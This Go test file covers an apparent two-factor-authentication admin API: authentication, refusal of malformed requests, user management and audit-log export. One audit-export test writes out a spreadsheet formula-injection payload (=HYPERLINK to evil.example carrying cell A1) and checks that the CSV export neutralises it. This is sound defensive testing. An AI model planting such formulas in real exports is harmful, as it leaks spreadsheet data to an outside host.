package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/twostep/twostep/api"
	"github.com/twostep/twostep/internal/metrics"
	"github.com/twostep/twostep/internal/storetest"
	"github.com/twostep/twostep/internal/twostep"
	"github.com/twostep/twostep/internal/web"
)

// setup makes a company with a user through the API.
func setup(t *testing.T, c *client) (companyID, userID string) {
	t.Helper()
	co := c.must(201, "POST", "/v1/companies", map[string]any{"name": "Acme"})
	companyID = co["id"].(string)
	u := c.must(201, "POST", "/v1/companies/"+companyID+"/users", map[string]any{"name": "Anna", "email": "anna@acme.com"})
	return companyID, u["id"].(string)
}

// eventCount returns the number of audit events of a company.
func eventCount(t *testing.T, s *testServer, companyID string) int {
	t.Helper()
	n := 0
	err := s.Svc.ExportAudit(context.Background(), twostep.Caller{}, companyID, twostep.AuditFilter{},
		func(twostep.AuditEvent) error { n++; return nil })
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func TestAuthentication(t *testing.T) {
	storetest.Run(t, func(t *testing.T, dbURL string) {
		s := newTestServer(t, dbURL)
		c := s.client(t)
		co, _ := setup(t, c)
		ctx := context.Background()

		for name, header := range map[string]string{
			"NoKey":            "",
			"WrongKey":         "Bearer tsk_" + strings.Repeat("a", 52),
			"Garbage":          "Bearer x",
			"BasicScheme":      "Basic " + s.Key,
			"KeyWithoutScheme": s.Key,
		} {
			t.Run(name, func(t *testing.T) {
				cc := *c
				cc.key = ""
				r := cc.with("Authorization", header).do("GET", "/v1/companies/"+co, nil)
				if code, _ := r.ErrorCode(t); r.Status != 401 || code != "unauthorized" {
					t.Fatalf("%d %s", r.Status, r.Body)
				}
			})
		}
		t.Run("RevokedKey", func(t *testing.T) {
			k, secret, err := s.Svc.CreateAPIKey(ctx, "temp", "")
			if err != nil {
				t.Fatal(err)
			}
			cc := *c
			cc.key = secret
			cc.must(200, "GET", "/v1/companies/"+co, nil)
			if err := s.Svc.RevokeAPIKey(ctx, k.ID); err != nil {
				t.Fatal(err)
			}
			cc.must(401, "GET", "/v1/companies/"+co, nil)
		})
		t.Run("CompanyKeySeesOnlyItsCompany", func(t *testing.T) {
			other := c.must(201, "POST", "/v1/companies", map[string]any{"name": "Other"})["id"].(string)
			_, secret, err := s.Svc.CreateAPIKey(ctx, "acme only", co)
			if err != nil {
				t.Fatal(err)
			}
			cc := *c
			cc.key = secret
			cc.must(200, "GET", "/v1/companies/"+co+"/settings", nil)
			missing := cc.do("GET", "/v1/companies/co_doesnotexist/settings", nil)
			foreign := cc.do("GET", "/v1/companies/"+other+"/settings", nil)
			if foreign.Status != 404 || !bytes.Equal(foreign.Body, missing.Body) {
				t.Fatalf("another company: %d %s; a missing one: %d %s", foreign.Status, foreign.Body, missing.Status, missing.Body)
			}
			if code, _ := cc.do("POST", "/v1/companies", map[string]any{"name": "X"}).ErrorCode(t); code != "forbidden" {
				t.Fatalf("company key creating a company: %s", code)
			}
		})
		t.Run("KeyIsNeverLogged", func(t *testing.T) {
			if strings.Contains(s.Logs.String(), s.Key) {
				t.Fatal("the API key appears in the log")
			}
		})
	})
}

func TestBadRequestsChangeNothing(t *testing.T) {
	storetest.Run(t, func(t *testing.T, dbURL string) {
		s := newTestServer(t, dbURL)
		c := s.client(t)
		co, u := setup(t, c)
		base := "/v1/companies/" + co
		before := c.must(200, "GET", base+"/settings", nil)
		events := eventCount(t, s, co)

		big := `{"name":"` + strings.Repeat("a", 1<<20) + `"}`
		for _, tc := range []struct {
			name, method, path string
			body               any
			status             int
			code, field        string
		}{
			{"MalformedJSON", "PATCH", base + "/settings", `{"delivery_method":`, 400, "invalid_json", ""},
			{"NotAnObject", "PATCH", base + "/settings", `["sms_then_email"]`, 400, "invalid_json", ""},
			{"EmptyBody", "POST", "/v1/companies", ``, 400, "invalid_json", ""},
			{"TrailingData", "PATCH", base + "/settings", `{"sms_daily_cap":5} {"sms_daily_cap":6}`, 400, "invalid_json", ""},
			{"UnknownField", "PATCH", base + "/settings", `{"delivery_methd":"email_only"}`, 422, "unknown_field", "delivery_methd"},
			{"UnknownNestedField", "PATCH", base + "/settings", `{"defaults":{"webb":true}}`, 422, "unknown_field", "webb"},
			{"WrongType", "PATCH", base + "/settings", `{"defaults":{"web":"yes"}}`, 422, "invalid_value", "defaults.web"},
			{"Overflow", "PATCH", base + "/settings", `{"sms_daily_cap":1e100}`, 422, "invalid_value", "sms_daily_cap"},
			{"InvalidEnum", "PATCH", base + "/settings", `{"delivery_method":"sms"}`, 422, "invalid_value", "delivery_method"},
			{"BodyTooLarge", "POST", "/v1/companies", big, 413, "body_too_large", ""},
			{"BadPhone", "POST", base + "/users", `{"name":"Bob","phone":"+44 909 879 0000"}`, 422, "invalid_value", "phone"},
			{"MissingName", "POST", base + "/users", `{"email":"bob@example.com"}`, 422, "invalid_value", "name"},
			{"EnabledMissing", "PUT", base + "/users/" + u + "/twofa/web", `{}`, 422, "invalid_value", "enabled"},
			{"EnabledNotBool", "PUT", base + "/users/" + u + "/twofa/web", `{"enabled":"true"}`, 422, "invalid_value", "enabled"},
			{"UnknownApp", "PUT", base + "/users/" + u + "/twofa/mobile", `{"enabled":true}`, 404, "not_found", ""},
			{"UnknownUser", "PUT", base + "/users/usr_nope/twofa/web", `{"enabled":true}`, 404, "not_found", ""},
			{"UnknownCompany", "PATCH", "/v1/companies/co_nope/settings", `{"sms_daily_cap":1}`, 404, "not_found", ""},
			{"UnknownRoute", "GET", "/v1/nothing", nil, 404, "not_found", ""},
			{"WrongMethod", "DELETE", base + "/settings", nil, 405, "method_not_allowed", ""},
			{"LimitZero", "GET", base + "/users?limit=0", nil, 422, "invalid_value", "limit"},
			{"LimitTooBig", "GET", base + "/audit-events?limit=201", nil, 422, "invalid_value", "limit"},
			{"LimitNotANumber", "GET", base + "/users?limit=ten", nil, 422, "invalid_value", "limit"},
			{"BadCursor", "GET", base + "/audit-events?cursor=!!!", nil, 422, "invalid_value", "cursor"},
			{"MalformedQuery", "GET", base + "/audit-events?cursor=%%%", nil, 400, "invalid_query", ""},
			{"ForgedCursor", "GET", base + "/users?cursor=" + url.QueryEscape("eyJuIjo"), nil, 422, "invalid_value", "cursor"},
			{"BadSince", "GET", base + "/audit-events?since=yesterday", nil, 422, "invalid_value", "since"},
			{"UntilBeforeSince", "GET", base + "/audit-events?since=2026-11-27&until=2026-11-26", nil, 422, "invalid_value", "until"},
			{"BadAction", "GET", base + "/audit-events?action=user.hacked", nil, 422, "invalid_value", "action"},
			{"BadFormat", "GET", base + "/audit-events/export?format=xlsx", nil, 422, "invalid_value", "format"},
			{"NULInSearch", "GET", base + "/users?q=1%00", nil, 400, "invalid_query", ""},
			{"InvalidUTF8InSearch", "GET", base + "/users?q=%FF", nil, 400, "invalid_query", ""},
			{"InvalidUTF8InPath", "GET", "/v1/companies/%FF/users", nil, 404, "not_found", ""},
			{"NULInPath", "PATCH", base + "/users/usr%00x", `{"name":"X"}`, 404, "not_found", ""},
			// What outside clients found: each was taken, or answered in HTML.
			{"NullBody", "PATCH", base + "/settings", `null`, 400, "invalid_json", ""},
			{"NullBodyForACompany", "POST", "/v1/companies", ` null `, 400, "invalid_json", ""},
			{"InvalidUTF8InBody", "POST", base + "/users", "{\"name\":\"Bo\xffb\"}", 400, "invalid_json", ""},
			{"LoneSurrogate", "POST", base + "/users", `{"name":"Bo\ud800b"}`, 400, "invalid_json", ""},
			{"LowSurrogateFirst", "POST", base + "/users", `{"name":"\udc00\ud800"}`, 400, "invalid_json", ""},
			{"NullName", "POST", "/v1/companies", `{"name":null}`, 422, "invalid_value", "name"},
			{"NullRole", "POST", base + "/users", `{"name":"Bob","role":null}`, 422, "invalid_value", "role"},
			{"NullIP", "POST", base + "/users/" + u + "/challenges", `{"app":"web","ip":null}`, 422, "invalid_value", "ip"},
			{"NullUserAgent", "POST", base + "/users/" + u + "/challenges", `{"app":"web","user_agent":null}`, 422, "invalid_value", "user_agent"},
			{"NullReturnURL", "POST", base + "/users/" + u + "/challenges", `{"app":"web","return_url":null}`, 422, "invalid_value", "return_url"},
			{"EmptyCompanyID", "GET", "/v1/companies//users", nil, 404, "not_found", ""},
			{"EmptyUserID", "PATCH", base + "/users//", `{"name":"X"}`, 404, "not_found", ""},
			{"DotSegment", "GET", "/v1/companies/" + co + "/../" + co + "/settings", nil, 404, "not_found", ""},
		} {
			t.Run(tc.name, func(t *testing.T) {
				r := c.do(tc.method, tc.path, tc.body)
				code, field := r.ErrorCode(t)
				if r.Status != tc.status || code != tc.code || field != tc.field {
					t.Fatalf("%d %s; want %d %s field %q", r.Status, r.Body, tc.status, tc.code, tc.field)
				}
				if msg := r.JSON(t)["error"].(map[string]any)["message"].(string); msg == "" || strings.Contains(msg, "sql") {
					t.Fatalf("message %q", msg)
				}
			})
		}
		t.Run("WrongMethodNamesTheAllowedOnes", func(t *testing.T) {
			if allow := c.do("DELETE", base+"/settings", nil).Header.Get("Allow"); allow != "GET, PATCH" {
				t.Fatalf("Allow: %q", allow)
			}
		})
		t.Run("BadActorHeader", func(t *testing.T) {
			other := c.must(201, "POST", "/v1/companies", map[string]any{"name": "Other"})["id"].(string)
			stranger := c.must(201, "POST", "/v1/companies/"+other+"/users", map[string]any{"name": "Stranger"})["id"].(string)
			for _, actor := range []string{stranger, "usr_nope", " "} {
				r := c.with("Twostep-Actor", actor).do("PATCH", base+"/settings", `{"sms_daily_cap":3}`)
				if code, field := r.ErrorCode(t); r.Status != 422 || code != "invalid_value" || field != "Twostep-Actor" {
					t.Fatalf("actor %q: %d %s", actor, r.Status, r.Body)
				}
			}
		})

		after := c.must(200, "GET", base+"/settings", nil)
		if fmt.Sprint(after) != fmt.Sprint(before) {
			t.Fatalf("settings changed by refused requests:\n%v\n%v", before, after)
		}
		if n := eventCount(t, s, co); n != events {
			t.Fatalf("refused requests wrote %d audit events", n-events)
		}
		users := c.must(200, "GET", base+"/users", nil)["users"].([]any)
		if len(users) != 1 || users[0].(map[string]any)["twofa"].(map[string]any)["web"] != false {
			t.Fatalf("users after refused requests: %v", users)
		}
	})
}

func TestUsersAPI(t *testing.T) {
	storetest.Run(t, func(t *testing.T, dbURL string) {
		s := newTestServer(t, dbURL)
		c := s.client(t)
		co, _ := setup(t, c)
		base := "/v1/companies/" + co

		t.Run("CreateReadUpdateDelete", func(t *testing.T) {
			u := c.must(201, "POST", base+"/users", map[string]any{"name": "Ben", "external_id": "b-1",
				"phone": "+371 2000 0003", "role": "admin", "twofa": map[string]any{"manager": true}})
			id := u["id"].(string)
			if u["phone"] != "+37120000003" || u["role"] != "admin" || u["email"] != nil ||
				u["twofa"].(map[string]any)["manager"] != true || u["twofa"].(map[string]any)["web"] != false {
				t.Fatalf("created %v", u)
			}
			c.must(200, "GET", base+"/users/"+id, nil)
			r := c.do("POST", base+"/users", map[string]any{"name": "Ben 2", "external_id": "b-1"})
			if code, field := r.ErrorCode(t); r.Status != 409 || code != "conflict" || field != "external_id" {
				t.Fatalf("duplicate external id: %d %s", r.Status, r.Body)
			}
			u = c.must(200, "PATCH", base+"/users/"+id, map[string]any{"email": "ben@acme.com", "external_id": nil})
			if u["email"] != "ben@acme.com" || u["external_id"] != nil {
				t.Fatalf("patched %v", u)
			}
			u = c.must(200, "PUT", base+"/users/"+id+"/twofa/web", map[string]any{"enabled": true})
			if u["twofa"].(map[string]any)["web"] != true {
				t.Fatalf("after PUT twofa/web: %v", u)
			}
			c.must(204, "DELETE", base+"/users/"+id, nil)
			c.must(404, "GET", base+"/users/"+id, nil)
		})

		t.Run("ListPagesAndSearch", func(t *testing.T) {
			for i := range 7 {
				c.must(201, "POST", base+"/users", map[string]any{"name": fmt.Sprintf("Page user %d", i)})
			}
			var names []string
			path := base + "/users?q=page+user&limit=3"
			for pages := 0; path != ""; pages++ {
				page := c.must(200, "GET", path, nil)
				for _, u := range page["users"].([]any) {
					names = append(names, u.(map[string]any)["name"].(string))
				}
				path = ""
				if next, ok := page["next_cursor"].(string); ok {
					path = base + "/users?q=page+user&limit=3&cursor=" + url.QueryEscape(next)
				}
				if pages > 5 {
					t.Fatal("paging does not end")
				}
			}
			if len(names) != 7 || names[0] != "Page user 0" || names[6] != "Page user 6" {
				t.Fatalf("names %q", names)
			}
		})
	})
}

func TestAuditExport(t *testing.T) {
	storetest.Run(t, func(t *testing.T, dbURL string) {
		s := newTestServer(t, dbURL)
		c := s.client(t)
		co, _ := setup(t, c)
		base := "/v1/companies/" + co
		// Text a user controls, made to run as a formula in a spreadsheet.
		evil := c.must(201, "POST", base+"/users", map[string]any{"name": `=HYPERLINK("http://evil.example/?"&A1,"Click")`})["id"].(string)
		c.with("Twostep-Actor", evil).must(200, "PUT", base+"/users/"+evil+"/twofa/manager", map[string]any{"enabled": true})
		c.must(200, "PATCH", base+"/settings", map[string]any{"responsible_contact": map[string]any{"name": "@SUM(1+1)", "phone": "+371 2000 0001"}})
		// Enough events to cross the export's page size.
		for i := range 260 {
			c.must(200, "PATCH", base+"/settings", map[string]any{"sms_daily_cap": 100 + i})
		}
		total := eventCount(t, s, co)

		t.Run("CSV", func(t *testing.T) {
			r := c.do("GET", base+"/audit-events/export?format=csv", nil)
			if r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") ||
				!strings.Contains(r.Header.Get("Content-Disposition"), "attachment") {
				t.Fatalf("%d %v", r.Status, r.Header)
			}
			rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) != total+1 || rows[0][0] != "Time" || rows[0][1] != "User" || rows[0][2] != "Action" {
				t.Fatalf("%d rows (want %d), header %q", len(rows), total+1, rows[0])
			}
			for _, row := range rows[1:] {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
						t.Fatalf("cell %q would run as a formula", cell)
					}
				}
			}
			if !strings.Contains(string(r.Body), `'=HYPERLINK(`) || !strings.Contains(string(r.Body), `'@SUM(1+1)`) ||
				!strings.Contains(string(r.Body), `'+37120000001`) {
				t.Fatal("the formula cells are not neutralised with an apostrophe")
			}
		})
		t.Run("JSONLinesWithFilter", func(t *testing.T) {
			r := c.do("GET", base+"/audit-events/export?format=jsonl&action=user.2fa_enabled", nil)
			lines := strings.Split(strings.TrimSpace(string(r.Body)), "\n")
			if r.Status != 200 || len(lines) != 1 {
				t.Fatalf("%d, %d lines: %s", r.Status, len(lines), r.Body)
			}
			var e map[string]any
			if err := json.Unmarshal([]byte(lines[0]), &e); err != nil {
				t.Fatal(err)
			}
			if e["action"] != "user.2fa_enabled" || e["app"] != "manager" || e["actor"].(map[string]any)["id"] != evil {
				t.Fatalf("event %v", e)
			}
		})
		t.Run("ListMatchesExport", func(t *testing.T) {
			n := 0
			path := base + "/audit-events?limit=200"
			for path != "" {
				page := c.must(200, "GET", path, nil)
				n += len(page["events"].([]any))
				path = ""
				if next, ok := page["next_cursor"].(string); ok {
					path = base + "/audit-events?limit=200&cursor=" + next
				}
			}
			if n != total {
				t.Fatalf("listed %d events, exported %d", n, total)
			}
		})
		t.Run("OtherCompanysKeyGetsNotFound", func(t *testing.T) {
			other := c.must(201, "POST", "/v1/companies", map[string]any{"name": "Other"})["id"].(string)
			_, secret, _ := s.Svc.CreateAPIKey(context.Background(), "other", other)
			cc := *c
			cc.key = secret
			r := cc.do("GET", base+"/audit-events/export", nil)
			if r.Status != 404 || strings.Contains(string(r.Body), "HYPERLINK") {
				t.Fatalf("%d %s", r.Status, r.Body)
			}
		})
	})
}

func TestHealth(t *testing.T) {
	s := newTestServer(t, storetest.SQLiteURL(t))
	c := s.client(t)
	if got := c.must(200, "GET", "/healthz", nil); got["status"] != "ok" {
		t.Fatalf("healthz %v", got)
	}
	if got := c.must(200, "GET", "/readyz", nil); got["status"] != "ready" {
		t.Fatalf("readyz %v", got)
	}
	r := c.do("GET", "/openapi.json", nil)
	if r.Status != 200 || !json.Valid(r.Body) {
		t.Fatalf("openapi.json: %d", r.Status)
	}
	for _, h := range []string{"X-Content-Type-Options", "Content-Security-Policy", "Referrer-Policy"} {
		if r.Header.Get(h) == "" {
			t.Errorf("no %s header", h)
		}
	}
	s.DB.Close()
	if r := c.do("GET", "/readyz", nil); r.Status != http.StatusServiceUnavailable {
		t.Fatalf("readyz with the database closed: %d %s", r.Status, r.Body)
	}
}

// TestOpenAPIDocumentsEveryRoute checks the document against the router
// itself: every /v1 route is documented, and nothing else is.
func TestOpenAPIDocumentsEveryRoute(t *testing.T) {
	s := newTestServer(t, storetest.SQLiteURL(t))
	doc := loadSpec(t).doc
	served := map[string]bool{}
	for _, pattern := range s.Web.APIRoutes() {
		served[pattern] = true
		method, path, _ := strings.Cut(pattern, " ")
		item := doc.Paths.Value(path)
		if item == nil || item.GetOperation(method) == nil {
			t.Errorf("%s is served but not in api/openapi.json", pattern)
		}
	}
	for path, item := range doc.Paths.Map() {
		if !strings.HasPrefix(path, "/v1/") {
			continue
		}
		for method := range item.Operations() {
			if !served[method+" "+path] {
				t.Errorf("%s %s is documented but not served", method, path)
			}
		}
	}
}

func TestDevInboxOnlyWithADevSender(t *testing.T) {
	s := newTestServer(t, storetest.SQLiteURL(t))
	c := s.client(t)
	r := c.do("GET", "/dev/inbox", nil)
	if r.Status != 200 || !strings.Contains(string(r.Body), "No messages yet") ||
		!strings.Contains(r.Header.Get("Content-Security-Policy"), "style-src 'sha256-") {
		t.Fatalf("%d %v %s", r.Status, r.Header, r.Body)
	}
	if got := c.must(200, "GET", "/dev/inbox?format=json", nil); len(got["messages"].([]any)) != 0 {
		t.Fatalf("%v", got)
	}
	// A server without a dev sender has no such page.
	noInbox, err := web.New(web.Config{Service: s.Svc, Ready: s.DB, Metrics: metrics.New(s.Svc.OutboxDepth), OpenAPI: api.OpenAPI,
		Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	rec := httptest.NewRecorder()
	noInbox.ServeHTTP(rec, httptest.NewRequest("GET", "/dev/inbox", nil))
	if rec.Code != http.StatusNotFound {
		t.Fatalf("without a dev sender: %d", rec.Code)
	}
}

// TestAPIServesOtherOrigins: a platform backend or a tool that sends an
// Origin header with its bearer key is served (cross-origin protection is
// for the pages' cookies); null means none where the schema says so, and
// a surrogate pair is a character like any other.
func TestAPIServesOtherOrigins(t *testing.T) {
	s := newTestServer(t, storetest.SQLiteURL(t))
	c := s.client(t).with("Origin", "https://tools.example").with("Sec-Fetch-Site", "cross-site")
	co := c.must(201, "POST", "/v1/companies", map[string]any{"name": "Acme"})["id"].(string)
	u := c.must(201, "POST", "/v1/companies/"+co+"/users", `{"name":"Bob \ud83d\ude00","email":null,"phone":null,"external_id":null}`)
	if u["name"] != "Bob 😀" || u["email"] != nil {
		t.Fatalf("user %v", u)
	}
	c.must(200, "PATCH", "/v1/companies/"+co+"/settings", map[string]any{"delivery_method": "sms_then_email"})
}
